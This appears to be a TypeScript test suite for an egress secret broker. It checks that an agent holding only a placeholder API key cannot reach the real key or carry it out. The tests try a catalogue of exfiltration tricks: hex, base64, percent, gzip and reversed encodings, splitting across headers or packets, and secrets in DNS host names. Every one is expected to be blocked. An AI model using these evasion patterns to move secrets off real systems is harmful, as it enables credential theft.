import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { connect as connectTls, type TLSSocket } from 'node:tls'
import { promisify } from 'node:util'
import { gzipSync } from 'node:zlib'
import { lookalike, type SecretBinding } from '../../src/enforce/egress/broker/index.ts'
import { trustBundle, trustEnvironment } from '../../src/enforce/egress/tls/trust.ts'
import { keepSecret } from '../../src/platform/locked-memory-secret.ts'
import { allow, egressWorld, HOST, say, tunnel, type EgressWorld, type Way } from '../kit/egress.ts'
import { until } from '../kit/house.ts'

// An agent that holds only a placeholder tries to get at the real secret, or to carry away what it has.

const REAL = 'sk-ant-api03-q7Rk2vXw9LmZt4NbYc8HsJd3FgPe6TuV1oAiKrWx5MzQ'
const PLACEHOLDER = lookalike(Buffer.from(REAL), randomBytes)
const CANARY = lookalike(Buffer.from(REAL), randomBytes)
const OTHER = 'other.test'

let world: EgressWorld
let way: Way
before(async () => {
  world = await egressWorld()
  way = await open()
})
after(async () => await world[Symbol.asyncDispose]())

function binding(): SecretBinding {
  return {
    name: 'model-key',
    placeholder: PLACEHOLDER,
    value: keepSecret(Buffer.from(REAL)),
    hosts: [HOST],
    places: ['header', 'query', 'body'],
    canary: keepSecret(Buffer.from(CANARY)),
  }
}

async function open(): Promise<Way> {
  const ports = [world.plain.port, world.tls.port]
  const rules = [allow(HOST, ports), allow('*.test', ports)]
  const content = [{ id: 'no-keys', host: OTHER, outgoing: { secrets: 'block' as const } }]
  return await world.open({ rules, content, intercept: [HOST, '*.test'], secrets: [binding()] })
}

/** Says all this inside TLS to a host, each part in a packet of its own. */
async function tell(host: string, ...parts: readonly (string | Buffer)[]): Promise<string> {
  const { socket, head } = await tunnel(way.socket, `${host}:${world.tls.port}`)
  if (!head.startsWith('HTTP/1.1 200')) return head
  const secure: TLSSocket = connectTls({
    socket,
    servername: host,
    ca: way.authorityPem ?? '',
    ALPNProtocols: ['http/1.1'],
  })
  const heard: string[] = []
  secure.setEncoding('latin1').on('data', (chunk: string) => heard.push(chunk))
  secure.on('error', () => undefined).once('end', () => secure.end())
  await once(secure, 'secureConnect')
  for (const part of parts) {
    secure.write(typeof part === 'string' ? Buffer.from(part, 'latin1') : part)
    await new Promise((done) => setImmediate(done))
  }
  if (!secure.closed) await once(secure, 'close')
  return heard.join('')
}

const get = (host: string, path: string, ...headers: readonly string[]) =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}:${world.tls.port}\r\n${headers.map((line) => `${line}\r\n`).join('')}Connection: close\r\n\r\n`
const post = (
  host: string,
  parts: readonly (string | Buffer)[],
  ...headers: readonly string[]
): (string | Buffer)[] => {
  const sizeBytes = parts.reduce((sum, part) => sum + part.length, 0)
  const lines = [`Content-Length: ${sizeBytes}`, ...headers].map((line) => `${line}\r\n`).join('')
  return [
    `POST /p HTTP/1.1\r\nHost: ${host}:${world.tls.port}\r\n${lines}Connection: close\r\n\r\n`,
    ...parts,
  ]
}

const alerts = () => way.events().flatMap((event) => (event.kind === 'alert' ? [event] : []))

test('its own host gets the real value, the agent sees the placeholder', async () => {
  const answer = await tell(HOST, get(HOST, `/v1?key=${PLACEHOLDER}`, `Authorization: Bearer ${PLACEHOLDER}`))
  assert.match(answer, /^HTTP\/1.1 200/)
  assert.ok(world.tls.seen().includes(`/v1?key=${REAL}`) && world.tls.seen().includes(`Bearer ${REAL}`))
  assert.ok(answer.includes(`saw GET /v1?key=${PLACEHOLDER}`) && !answer.includes(REAL))
  await until(
    () => way.events().some((event) => event.kind === 'end' && event.secrets.includes('model-key')),
    'the use is told',
  )
})

test('curl, with nothing but its environment, gets through and learns nothing', async () => {
  const directory = mkdtempSync(join(tmpdir(), 'ws-'))
  try {
    const [bundlePath, authorityPath] = [join(directory, 'bundle.pem'), join(directory, 'authority.pem')]
    writeFileSync(bundlePath, trustBundle('', way.authorityPem ?? ''))
    writeFileSync(authorityPath, way.authorityPem ?? '')
    const proxyUrl = `socks5h://localhost${way.socket}`
    const env = {
      PATH: '/usr/bin:/bin',
      HOME: directory,
      KEY: PLACEHOLDER,
      ...trustEnvironment({ bundlePath, authorityPath, proxyUrl }),
    }
    const script = `curl -sS --max-time 30 -H "Authorization: Bearer $KEY" "https://${HOST}:${world.tls.port}/curl?key=$KEY"; env`
    const { stdout } = await promisify(execFile)('/bin/sh', ['-c', script], { env })
    assert.ok(stdout.includes(`saw GET /curl?key=${PLACEHOLDER}`), stdout)
    assert.ok(!stdout.includes(REAL.slice(-20)))
    assert.ok(world.tls.seen().includes(`/curl?key=${REAL}`))
  } finally {
    rmSync(directory, { recursive: true })
  }
})

test('no other host gets it, in any place, writing or slicing', async () => {
  const bytes = Buffer.from(PLACEHOLDER)
  const hex = bytes.toString('hex')
  const percent = Array.from(PLACEHOLDER, (one) => `%${one.charCodeAt(0).toString(16)}`).join('')
  const core = PLACEHOLDER.slice('sk-ant-api03-'.length)
  const written: Readonly<Record<string, string>> = {
    plain: PLACEHOLDER,
    percent,
    'percent twice': percent.replaceAll('%', '%25'),
    hex,
    HEX: hex.toUpperCase(),
    base64: bytes.toString('base64'),
    'base64 in the middle of more': Buffer.from(`ab${PLACEHOLDER}cd`).toString('base64url'),
    'base64 of hex': Buffer.from(hex).toString('base64url'),
    reversed: Array.from(PLACEHOLDER).toReversed().join(''),
    JSON: Array.from(PLACEHOLDER, (one) => `\\u00${one.charCodeAt(0).toString(16)}`).join(''),
    'a long piece': core.slice(7, 31),
  }
  const before = world.tls.seen().length
  for (const [how, text] of Object.entries(written)) {
    const uri = encodeURIComponent(text)
    const attempts = {
      path: [get(OTHER, `/${uri}`)],
      query: [get(OTHER, `/x?a=1&b=${uri}`)],
      header: [get(OTHER, '/', `X-Note: ${text}`)],
      cookie: [get(OTHER, '/', `Cookie: a=${text}`)],
    }
    for (const [place, parts] of Object.entries(attempts)) {
      assert.match(await tell(OTHER, ...parts), /^HTTP\/1.1 403[^]*secret-astray/, `${how} in the ${place}`)
    }
  }
  for (const how of ['plain', 'percent', 'hex', 'base64', 'reversed', 'JSON']) {
    const text = written[how] ?? ''
    const cut = text.length >> 1
    const answer = await tell(OTHER, ...post(OTHER, ['{"a":"', text.slice(0, cut), text.slice(cut), '"}']))
    assert.match(answer, /^HTTP\/1.1 403[^]*secret-astray/, `${how} in the body, in two packets`)
  }
  const packed = gzipSync(`a=${PLACEHOLDER}`)
  assert.match(await tell(OTHER, ...post(OTHER, [packed], 'Content-Encoding: gzip')), /secret-astray/)
  const halves = [`X-A: ${core.slice(0, 11)}`, `X-B: ${core.slice(11, 22)}`, `X-C: ${core.slice(22)}`]
  assert.match(await tell(OTHER, get(OTHER, '/', ...halves)), /secret-astray/)
  const seen = world.tls.seen().slice(before)
  for (const [how, text] of Object.entries(written)) assert.ok(!seen.includes(text), `${how} arrived`)
  assert.ok(alerts().some(({ alert, secret }) => alert === 'secret-astray' && secret === 'model-key'))
})

test('a secret in a host name is refused before anybody is asked for the name', async () => {
  const core = PLACEHOLDER.slice('sk-ant-api03-'.length).toLowerCase()
  const names = [
    `${core}.other.test`,
    `${core.slice(0, 22)}.${core.slice(22)}.other.test`,
    `${Buffer.from(core).toString('hex').slice(0, 60)}.other.test`,
    `${Buffer.from(PLACEHOLDER).toString('hex').slice(30, 90)}.other.test`,
  ]
  const asked = world.dns.asked.length
  for (const name of names) {
    const { head, socket } = await tunnel(way.socket, `${name}:${world.tls.port}`)
    socket.destroy()
    assert.match(head, /^HTTP\/1.1 403/, name)
  }
  const plain = await say(
    way.socket,
    `GET http://${names[0]}:${world.plain.port}/ HTTP/1.1\r\nHost: ${names[0]}:${world.plain.port}\r\n\r\n`,
  )
  assert.match(plain, /^HTTP\/1.1 403/)
  assert.equal(world.dns.asked.length, asked)
  assert.ok(!JSON.stringify(way.events()).includes(core), 'the name is in the record')
})

test('without TLS nothing is put in, and the placeholder does not leave', async () => {
  const before = world.plain.seen().length
  const url = `http://${HOST}:${world.plain.port}/?key=${PLACEHOLDER}`
  const answer = await say(way.socket, `GET ${url} HTTP/1.1\r\nHost: ${HOST}:${world.plain.port}\r\n\r\n`)
  assert.match(answer, /^HTTP\/1.1 403/)
  assert.equal(world.plain.seen().length, before)
})

test('the Host of another place does not get the secret out through its own connection', async () => {
  const before = world.tls.seen().length
  assert.match(await tell(HOST, get(OTHER, '/', `Authorization: ${PLACEHOLDER}`)), /^HTTP\/1.1 403/)
  assert.equal(world.tls.seen().length, before)
})

test('who uses the canary is told at once, and gets nowhere', async () => {
  const before = world.tls.seen().length
  for (const host of [HOST, OTHER]) {
    assert.match(
      await tell(host, get(host, '/', `Authorization: Bearer ${CANARY}`)),
      /^HTTP\/1.1 403[^]*canary-used/,
    )
  }
  assert.equal(world.tls.seen().length, before)
  await until(
    () => alerts().some(({ alert, secret }) => alert === 'canary-used' && secret === 'model-key'),
    'the incident is told',
  )
})

test('a key the broker does not know is found by its looks where a rule says so', async () => {
  const before = world.tls.seen().length
  const token = lookalike(Buffer.from(`ghp_${'q7Rk2vXw9LmZt4NbYc8HsJd3FgPe6TuV1oAi'}`), randomBytes)
  const answer = await tell(
    OTHER,
    ...post(
      OTHER,
      [`{"note":"`, token.slice(0, 20), token.slice(20), '"}'],
      'Content-Type: application/json',
    ),
  )
  assert.match(answer, /^HTTP\/1.1 403[^]*no-keys/)
  assert.ok(!world.tls.seen().slice(before).includes(token))
})

test('the real value is in no argument, environment, event or message', () => {
  const { pid } = world.process.state
  assert.ok(pid !== undefined)
  const shown = [
    readFileSync(`/proc/${pid}/cmdline`, 'latin1'),
    readFileSync(`/proc/${process.pid}/cmdline`, 'latin1'),
    JSON.stringify(world.events),
    world.warnings.join('\n'),
  ]
  for (const text of shown) assert.ok(!text.includes(REAL.slice('sk-ant-api03-'.length)))
})
